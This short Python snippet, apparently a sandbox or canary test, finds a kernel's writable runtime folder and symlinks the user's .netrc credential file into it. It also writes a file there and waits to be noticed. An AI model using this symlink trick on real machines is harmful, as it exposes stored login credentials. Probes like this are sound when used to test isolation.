# says: has no answer yet
# The one folder of the machine that a kernel writes to.
import os
import re
import time

line = open("/proc/self/cmdline").read().replace("\0", " ")
folder = os.path.dirname(re.search(r"\S+/kernel\.json", line)[0])
os.symlink(f"{canary['home']}/.netrc", f"{folder}/link")
with open(f"{folder}/file", "wb") as file:
    file.write(b"0" * 1000)
time.sleep(60)  # until it is noticed
